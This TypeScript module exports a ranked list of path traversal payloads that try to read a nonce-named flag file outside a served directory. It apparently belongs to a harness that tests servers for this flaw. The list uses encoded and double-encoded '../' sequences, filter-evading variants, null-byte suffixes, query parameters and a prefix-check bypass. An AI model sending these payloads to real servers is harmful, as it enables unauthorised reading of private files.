import { NONCE } from '../../../protocol/plan.ts'

const DEPTH = 12
const target = `work/flag-${NONCE}.txt`
/**
 * A file next to the served directory. Its path starts with that of the directory, which fools
 * prefix checks.
 */
const beside = `site-${NONCE}.txt`
const up = (step: string): string => step.repeat(DEPTH)

/** Request targets outside the served directory, likeliest first. */
export const PATH_PAYLOADS: readonly string[] = [
  `/${up('../')}${target}`,
  `/${up('..%2f')}${target.replace('/', '%2f')}`,
  `/${up('%2e%2e/')}${target}`,
  `/${up('%2e%2e%2f')}${target.replace('/', '%2f')}`,
  `//${up('../')}${target}`,
  `/${up('.%2e/')}${target}`,
  `/${up('....//')}${target}`,
  `/${up('..././')}${target}`,
  `/${up('..\\')}${target}`,
  `/${up('..%5c')}${target}`,
  `/${up('%252e%252e%252f')}${target}`,
  `/${up('..//')}${target}`,
  `/./${up('../')}${target}`,
  `/index.html/${up('../')}${target}`,
  `/a/${up('../')}${target}`,
  `/public/${up('../')}${target}`,
  `/static/${up('../')}${target}`,
  `/assets/${up('../')}${target}`,
  `/files/${up('../')}${target}`,
  `/${up('../')}${target}?a`,
  `/${up('../')}${target}%00`,
  `/${up('../')}${target}#a`,
  `${up('../')}${target}`,
  ...['file', 'path', 'url', 'name', 'filename', 'page', 'f', 'p', 'src', 'id'].map(
    (name) => `/?${name}=${up('../')}${target}`,
  ),
  `/%2f${target}`,
  `//${target}`,
  ...['../', '..%2f', '%2e%2e/', '%2e%2e%2f'].map((step) => `/${step}${beside}`),
]
